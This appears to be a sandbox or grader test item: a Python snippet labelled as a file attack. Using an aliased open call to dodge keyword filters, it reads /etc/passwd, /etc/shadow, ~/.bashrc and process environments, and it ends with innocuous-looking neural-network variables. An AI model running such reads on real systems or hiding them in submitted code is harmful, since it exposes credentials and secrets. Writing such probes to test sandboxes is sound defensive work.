# attack: files | expect: wrong | needs: strong | reads /etc/passwd, /etc/shadow, a shell start-up file, environments in /proc
import io, os
opened = getattr(io, 'open')
for p in ("/etc/passwd", "/etc/shadow", os.path.expanduser("~/.bashrc"), "/proc/self/environ", "/proc/1/cmdline"):
    try: print(opened(p).read()[:200])
    except OSError as e: print(e)
node_0_value = 1.0
node_1_value = 1.0
hidden_layer_values = [1.0, 1.0]
output = 1.0
